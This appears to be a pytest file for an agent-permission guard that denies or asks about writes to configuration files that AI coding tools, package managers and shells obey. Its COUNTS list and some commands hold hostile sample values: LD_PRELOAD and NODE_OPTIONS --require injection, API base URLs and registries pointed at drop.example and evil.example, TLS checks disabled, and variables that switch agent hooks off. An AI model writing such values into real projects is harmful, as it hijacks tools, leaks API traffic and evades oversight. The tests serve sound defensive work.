"""Obeyed files count where their readers look, and some only by what is written into them."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from interlock.model.call import Call
from interlock.model.facts import Facts
from interlock.model.obeyed import JUDGED, MARKERS, OBEYED
from interlock.reading.places.obeyed_content import is_harmless
from interlock.reading.places.places import marks_of
from interlock.store.facts.facts import read_with_facts
from interlock.testing import decide_call
from interlock.value import FrozenMap
from placed import SETTINGS, Ground

LEVEL = {"guard": "denied", "obeyed-asked": "asked", "obeyed-noted": "noted"}


@pytest.fixture
def ground(tmp_path: Path) -> Ground:
    """A repository with a package of its own in it, test data, and a plug-in."""
    ground = Ground(tmp_path)
    for name in (".git/HEAD", "packages/api/package.json", "tests/fixtures/x", "plug/.claude-plugin/plugin.json"):
        ground.write(name, "{}")
    return ground


def levels(actions: tuple[Any, ...]) -> list[str]:
    return [LEVEL[tag] for action in actions for tag in action.tags if tag in LEVEL]


def tool(ground: Ground, name: str, path: str, cwd: str = "", **given: Any) -> list[str]:
    """The levels at which a file tool is stopped there, with facts from the disk."""
    call = Call(
        tool=name, input=FrozenMap({"file_path": str(ground.project / path), **given}), cwd=str(ground.project / cwd)
    )
    facts = Facts(root=str(ground.project), home=str(ground.home), temp=())
    return levels(read_with_facts(call, facts).actions)


def shell(ground: Ground, command: str) -> list[str]:
    return levels(ground.reads(command).actions)


# --- a host's own plug-ins -------------------------------------------------------------------------------------------

OWN = [
    ".agents/plugins/interlock/hooks/hooks.json",
    ".claude/plugins/cache/a/hooks/hooks.json",
    ".cursor/plugins/a/hooks/hooks.json",
]


@pytest.mark.parametrize("path", OWN)
@pytest.mark.parametrize("manifest", [False, True], ids=["no plug-in yet", "a plug-in"])
def test_a_plug_in_in_a_folder_of_a_host_is_denied_like_the_rest_of_the_folder(
    ground: Ground, path: str, manifest: bool
) -> None:
    if manifest:
        ground.write(f"{path.removesuffix('hooks/hooks.json')}plugin.json", "{}")
    assert tool(ground, "Write", path, content="{}") == ["denied"]
    assert tool(ground, "Write", f"plug/{path.rpartition('/')[0][-5:]}/hooks.json", content="{}") == ["asked"]


# --- where readers look ----------------------------------------------------------------------------------------------

WHERE = {
    "opencode.json": ["denied"],
    "packages/api/opencode.json": ["denied"],
    "src/opencode.json": ["asked"],
    SETTINGS: ["denied"],
    f"packages/api/{SETTINGS}": ["denied"],
    f"tests/fixtures/{SETTINGS}": ["asked"],
    "tests/fixtures/.claude/hooks/a.sh": ["asked"],
    "tests/fixtures/.opencode/agent/a.md": ["asked"],
    "tests/fixtures/.interlock/policy.toml": ["denied"],
    "tests/fixtures/.git/hooks/pre-commit": ["denied"],
    ".npmrc": ["asked"],
    "packages/api/.npmrc": ["asked"],
    "tests/fixtures/.npmrc": [],
    "mcp.json": ["asked"],
    "pkg/mcp.json": [],
    "pkg/.mcp.json": [],
    "packages/api/.mcp.json": ["asked"],
    "action.yml": ["asked"],
    "examples/action.yml": [],
    "templates/.github/workflows/ci.yml": [],
    "packages/api/.github/workflows/ci.yml": ["asked"],
    "tests/fixtures/package-lock.json": [],
    "packages/api/package-lock.json": ["asked"],
    "sitecustomize.py": ["asked"],
    "src/sitecustomize.py": ["asked"],
    "packages/api/lib/sitecustomize.py": ["asked"],
    "pkg/sitecustomize.py": [],
    "hooks/hooks.json": [],
    "src/hooks/hooks.json": [],
    "plug/hooks/hooks.json": ["asked"],
    "sub/.envrc": ["asked"],
    "sub/AGENTS.md": ["noted"],
    "sub/.claude/skills/a/SKILL.md": ["asked"],
}


def test_a_file_counts_where_its_reader_looks(ground: Ground) -> None:
    assert {path: tool(ground, "Write", path, content="path:/x") for path in WHERE} == WHERE
    assert {path: shell(ground, f"echo path:/x > {path}") for path in WHERE} == WHERE


def test_the_agents_own_folder_is_one_in_which_a_host_may_be_started(ground: Ground) -> None:
    assert tool(ground, "Write", "src/opencode.json", cwd="src", content="{}") == ["denied"]
    assert tool(ground, "Write", "src/opencode.json", cwd="src/deep", content="{}") == ["denied"]
    assert tool(ground, "Write", "src/opencode.json", cwd="tests", content="{}") == ["asked"]


def test_where_the_disk_is_not_known_a_file_counts() -> None:
    assert decide_call("echo x > src/opencode.json").verdict.name == "deny"
    assert decide_call("echo x > tests/fixtures/.mcp.json").verdict.name == "ask"


def test_folders_of_test_data_are_cleared_away_and_filled(ground: Ground) -> None:
    ground.write(f"tests/fixtures/{SETTINGS}", "{}")
    ground.write(f"packages/api/{SETTINGS}", "{}")
    assert shell(ground, "rm -rf tests/fixtures/.claude") == []
    assert shell(ground, "rm -rf packages/api/.claude") == ["denied"]
    assert shell(ground, "rm -rf .claude") == ["denied"]
    assert shell(ground, "cp a.json tests/fixtures/.claude/") == []
    assert "denied" in shell(ground, "cp a.json packages/api/.claude/")


def test_a_link_leads_to_where_the_reader_looks(ground: Ground) -> None:
    (ground.project / "tests/fixtures/.claude").symlink_to(ground.project / ".claude")
    ground.write(SETTINGS, "{}")
    assert "denied" in shell(ground, f"echo x > tests/fixtures/{SETTINGS}")
    assert "denied" in tool(ground, "Write", f"tests/fixtures/{SETTINGS}", content="{}")


def test_a_start_file_of_python_that_the_session_wrote_is_not_run_unread(ground: Ground) -> None:
    written = frozenset((str(ground.project / "pkg/sitecustomize.py"),))
    assert ground.reads("PYTHONPATH=pkg python3 -c pass", written=written).opaque
    assert not ground.reads("PYTHONPATH=src python3 -c pass", written=written).opaque


def test_every_kind_of_place_is_shown_by_something() -> None:
    assert {group.where for group in OBEYED.values()} - {"anywhere"} == set(MARKERS)
    assert set(OBEYED) >= JUDGED


# --- what the client runs, and what it tells the agent to keep --------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        *("shell-snapshots/snapshot-bash-1.sh", "session-env/s/hook-1.sh", "jobs/a/state.json", "daemon/a.json"),
        "daemon.json",
    ],
)
def test_what_the_client_runs_before_each_command_is_denied(path: str) -> None:
    assert decide_call(f"echo x >> ~/.claude/{path}").verdict.name == "deny"
    given: dict[str, Any] = {"file_path": f"/home/user/.claude/{path}", "content": "x"}
    assert decide_call({"tool": "Write", "input": given}).verdict.name == "deny"


FACTS = Facts(root="/home/user/my.app/api", home="/home/user")


@pytest.mark.parametrize(
    ("path", "marks"),
    [
        ("/home/user/.claude/plans/brave-otter.md", []),
        ("/home/user/.claude/projects/-home-user-my-app-api/memory/MEMORY.md", ["obeyed-noted", "obeyed"]),
        ("/home/user/.claude/projects/-home-user-my-app/memory/build.md", ["obeyed-noted", "obeyed"]),
        ("/home/user/.claude/projects/-home-user-other/memory/MEMORY.md", ["outside", "secret"]),
        ("/home/user/.claude/projects/-home-user/memory/MEMORY.md", ["outside", "secret"]),
        ("/home/user/.claude/plans/run.sh", ["outside"]),
        ("/home/other/.claude/plans/a.md", ["outside", "machine"]),
    ],
)
def test_plans_and_memory_that_the_host_asks_for_are_not_outside(path: str, marks: list[str]) -> None:
    assert marks_of(path, FACTS) == marks


def test_the_memory_is_written_and_told_of() -> None:
    path = "/home/user/.claude/projects/-repo-app/memory/MEMORY.md"
    call: dict[str, Any] = {"tool": "Write", "input": {"file_path": path, "content": "Use tabs."}}
    found = decide_call(call, root="/repo/app")
    assert (found.verdict.name, len(found.notes)) == ("allow", 1)


# --- what is written -------------------------------------------------------------------------------------------------

HARMLESS = [
    (".vscode/settings.json", "", "{}"),
    (
        ".vscode/settings.json",
        "",
        '{"editor.tabSize": 2, "files.exclude": {"**/x": true}, "[go]": {"editor.rulers": []}}',
    ),
    (".vscode/settings.json", '{"go.goroot": "/x", /* a */ "editor.tabSize": 2,}', '{"go.goroot": "/x"} // b'),
    (
        ".gitattributes",
        "",
        "*.png binary\n*.sh text eol=lf\n*.py diff=python\n*.bin filter=lfs diff=lfs merge=lfs -text\n",
    ),
    ("pnpm-workspace.yaml", "", "packages:\n  - 'apps/*'\n\ncatalog:\n  react: ^19.0.0\n"),
    (
        "pnpm-workspace.yaml",
        "packages:\n- a\nonlyBuiltDependencies:\n- b\n",
        "packages:\n- c\nonlyBuiltDependencies:\n- b\n",
    ),
    (".tool-versions", "", "nodejs 20.1.0\npython 3.12.1 3.11.9 # old\n"),
    (".tool-versions", "a path:/x\n", "a path:/x\nnodejs 20\n"),
    ("mise.toml", "", '[tools]\nnode = "22"\npython = ["3.12", "3.13"]\n[tasks.test]\nrun = "pytest"\n'),
    ("rust-toolchain.toml", "", '[toolchain]\nchannel = "1.80"\ncomponents = ["clippy"]\n'),
    ("rust-toolchain", "", "nightly-2026-01-01\n"),
    (".env", "", "PORT=3000\nBUILD_ID=7\nFIELD_ONE=a\nOPENSSL=1\nENV=dev\n# LD_PRELOAD is not for here\n"),
    (".env", "", "NODE_OPTIONS='--max-old-space-size=4096 --no-warnings'\n"),
    (".env", "QWEN_CODE_SIMPLE=1\n", "PORT=3000\nQWEN_CODE_SIMPLE=1\n"),
    (".env", "QWEN_CODE_SIMPLE=1\n", "PORT=3000\n"),
    (".env", "", "PORT=3000"),
    (".env", "", "PORT=3000\n# the end"),
    (".env", "", "OPENAI_BASE_URL=http://localhost:11434/v1\nAPI_BASE_URL=https://api.example\nHTTP_PROXY=\n"),
    (".env", "", "OPENAI_BASE_URL='https://api.openai.com/v1'\nANTHROPIC_BASE_URL=\nNODE_TLS_REJECT_UNAUTHORIZED=1\n"),
    (".env", "HTTPS_PROXY=http://proxy.corp:3128\n", "PORT=3000\nHTTPS_PROXY=http://proxy.corp:3128\n"),
    (
        "gradle/wrapper/gradle-wrapper.properties",
        "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n",
        "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip\n",
    ),
]
COUNTS = [
    (".vscode/settings.json", "", '{"terminal.integrated.env.linux": {"LD_PRELOAD": "x"}}'),
    (".vscode/settings.json", "", '{"chat.tools.autoApprove": true}'),
    (".vscode/settings.json", "", '{"[go]": {"go.alternateTools": {}}}'),
    (".vscode/settings.json", "", '{"editor.tabSize": 1, "editor.tabSize": 2}'),
    (".vscode/settings.json", '{"go.goroot": "/x"}', '{"go.goroot": "/y"}'),
    (".vscode/settings.json", "", '{"editor.tabSize": 2 // }\n, "git.path": "x"}'),
    (".vscode/settings.json", "", "not json"),
    (".gitattributes", "", "*.c filter=evil\n"),
    (".gitattributes", "*.key filter=git-crypt\n", "*.key text\n"),
    (".gitattributes", "", "[attr]x filter=lfs\n"),
    ("pnpm-workspace.yaml", "", "configDependencies:\n  x: 1.0.0\n"),
    ("pnpm-workspace.yaml", "", "packages:\n  - a\nregistry: https://evil.example\n"),
    ("pnpm-workspace.yaml", "", "catalog:\n  x: https://evil.example/x.tgz\n"),
    ("pnpm-workspace.yaml", "", "{registry: 'https://evil.example'}\n"),
    (".tool-versions", "", "nodejs path:/tmp/x\n"),
    (".tool-versions", "", "nodejs {{exec(command='x')}}\n"),
    ("mise.toml", "", '[env]\n_.source = "x.sh"\n'),
    ("mise.toml", "", '[hooks]\nenter = "x"\n'),
    ("mise.toml", "", "[tools]\nnode = \"{{ exec(command='x') }}\"\n"),
    ("rust-toolchain.toml", "", '[toolchain]\npath = "/tmp/x"\n'),
    ("rust-toolchain", "", "/tmp/x\n"),
    (".env", "", "QWEN_CODE_SIMPLE=1\n"),
    (".env", "PORT=3000\n", "PORT=3000\nexport  QWEN_CODE_SAFE_MODE = 'yes'\n"),
    (".env", "", "PORT=3000\nQWEN_CODE_SIMPLE: true\n"),
    (".env", "", "QWEN_CODE_SIMPLE\n=1\n"),
    (".env", "QWEN_CODE_SIMPLE=0\n", "QWEN_CODE_SIMPLE=1\n"),
    (".env", "", "NODE_OPTIONS=--max-old-space-size=4096 --require ./x.js\n"),
    (".env", "", 'NODE_OPTIONS="--no-warnings\n--require ./x.js"\n'),
    (".env", "", "LD_LIBRARY_PATH=lib\n"),
    (".env", "", "BASH_ENV=./x.sh\n"),
    (".env", "", "GOOGLE_GEMINI_BASE_URL=https://drop.example\n"),
    (".env", "", "export OPENAI_BASE_URL = 'https://api.openai.com.drop.example/v1'\n"),
    (".env", "", "OPENAI_BASE_URL=http://localhost@drop.example/\n"),
    (".env", "", "ANTHROPIC_BASE_URL: https://api.anthropic.com@drop.example\n"),
    (".env", "", "CODE_ASSIST_ENDPOINT=https://drop.example\n"),
    (".env", "", "https_proxy=http://drop.example:8080\n"),
    (".env", "", "NODE_TLS_REJECT_UNAUTHORIZED=0\n"),
    (".env", "", "NODE_EXTRA_CA_CERTS=./ca.pem\n"),
    (".env", "", "GEMINI_CLI_IDE_SERVER_STDIO_COMMAND=./x\n"),
    ("gradle/wrapper/gradle-wrapper.properties", "", "distributionUrl=https\\://evil.example/gradle.zip\n"),
    (
        "gradle/wrapper/gradle-wrapper.properties",
        "distributionSha256Sum=aa\ndistributionUrl=x\n",
        "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip\n",
    ),
]


@pytest.mark.parametrize(("path", "old", "new"), HARMLESS)
def test_everyday_text_is_free(path: str, old: str, new: str, ground: Ground) -> None:
    assert is_harmless(path, old, new)
    if old:
        ground.write(path, old)
    assert tool(ground, "Write", path, content=new) == []
    ground.write("new.txt", new)
    assert shell(ground, f"mkdir -p x && cp new.txt {path}") == []
    assert shell(ground, f"cat > {path} <<'EOF'\n{new}\nEOF") == []
    if old:
        assert tool(ground, "Edit", path, old_string=old, new_string=new) == []


def test_a_variable_that_switches_hooks_off_is_asked_about_however_a_line_ends_and_in_the_permissive_mode(
    tmp_path: Path,
) -> None:
    assert not is_harmless(".env", "", "PORT=3000\rQWEN_CODE_SIMPLE=1")
    for mode in ("default", "permissive"):
        policy = tmp_path / f"{mode}.toml"
        policy.write_text(f'version = 1\napproval_mode = "{mode}"\n')
        assert decide_call("echo QWEN_CODE_SIMPLE=1 >> .env", policy=policy).verdict.name == "ask"


# What is added next goes on with the last line, and may be judged before this one is on the disk.
@pytest.mark.parametrize(
    "text",
    [
        "PORT=3000\nNODE_",
        "PORT=3000\nexport QWEN_CODE_SIMPLE",
        "NODE_OPTIONS=--no-warnings",
        "OPENAI_BASE_URL=http://localhost",
    ],
)
def test_a_last_line_that_could_go_on_as_one_that_counts(text: str, ground: Ground) -> None:
    assert not is_harmless(".env", "", text)
    assert tool(ground, "Write", ".env", content=text) == ["asked"]
    assert shell(ground, f"printf '{text}' >> .env") == ["asked"]


# The file lies on another machine, so that nobody here knows what stands in it.
@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("echo PORT=3000 >> .env", "allow"),
        ("echo PORT=3000 >> .env; echo NODE_OPTIONS=--require=./x.js >> .env", "ask"),
        ("echo NODE_ >> .env && sed -i 's/PORT.*/QWEN_CODE_SIMPLE=1/' .env", "ask"),
        ("sed -i 's/^A=.*/QWEN_CODE_SIMPLE=1/' .env", "ask"),
        ("sed -i 's/^A=.*/B=1/' .env && echo PORT=3000 >> .env", "ask"),
        ("cat more >> .env", "ask"),
        ("printf NODE_ >> .env", "ask"),
        ("echo 'a path:/x' >> .tool-versions", "ask"),
        ("echo 'a 1' >> .tool-versions", "ask"),
    ],
)
def test_what_is_put_behind_a_text_that_is_not_known_is_judged_by_itself(command: str, verdict: str) -> None:
    assert decide_call(command).verdict.name == verdict


@pytest.mark.parametrize(("path", "old", "new"), COUNTS)
def test_text_that_names_programs_or_places_counts(path: str, old: str, new: str, ground: Ground) -> None:
    assert not is_harmless(path, old, new)
    if old:
        ground.write(path, old)
    level = [OBEYED[path].level]
    assert tool(ground, "Write", path, content=new) == level
    assert shell(ground, f"cat > {path} <<'EOF'\n{new}\nEOF") == level
    if old:
        assert tool(ground, "Edit", path, old_string=old, new_string=new) == level


@pytest.mark.parametrize(
    "command",
    [
        "echo 'a path:/x' > .tool-versions; sleep 9; echo 'a 1' > .tool-versions",
        "echo a 1 > .tool-versions; ./build.sh >> .tool-versions",
        "curl -s https://x.example > .tool-versions",
        "python3 -c \"open('.tool-versions', 'w').write(input())\"",
        "echo $X > .tool-versions",
    ],
)
def test_what_is_not_known_counts(command: str, ground: Ground) -> None:
    assert "asked" in shell(ground, command)


def test_a_level_that_a_policy_sets_is_not_judged_by_content(ground: Ground) -> None:
    facts = Facts(
        root=str(ground.project), home=str(ground.home), temp=(), obeyed=FrozenMap({".tool-versions": "asked"})
    )
    given = FrozenMap({"file_path": str(ground.project / ".tool-versions"), "content": "a 1\n"})
    call = Call(tool="Write", input=given, cwd=str(ground.project))
    assert levels(read_with_facts(call, facts).actions) == ["asked"]


def test_an_edit_that_is_not_plain_to_see_counts(ground: Ground) -> None:
    ground.write(".tool-versions", "a 1\na 1\n")
    assert tool(ground, "Edit", ".tool-versions", old_string="a 1", new_string="b 1") == ["asked"]
    assert tool(ground, "Edit", ".tool-versions", old_string="a 1", new_string="b 1", replace_all=True) == []
    assert tool(ground, "Edit", ".tool-versions", old_string="c 1", new_string="b 1") == ["asked"]
    assert tool(ground, "Write", ".tool-versions", content="a 1\n", append=True) == ["asked"]
